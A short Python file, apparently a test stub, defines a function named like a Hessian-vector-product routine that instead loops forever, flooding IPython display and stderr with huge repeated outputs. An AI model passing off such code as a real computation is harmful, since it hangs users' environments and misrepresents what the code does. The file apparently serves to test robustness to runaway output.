"""Displays large outputs without end, in the function and under the name of errors."""

import sys

from IPython.display import display


def eval_hess_vec_prod(vec, params, net, criterion, dataloader, device):
    while True:
        display({"text/html": "<b>10.0</b>" * 100_000, "application/json": [10.0] * 10_000}, raw=True)
        print("x" * 1_000_000, file=sys.__stderr__)
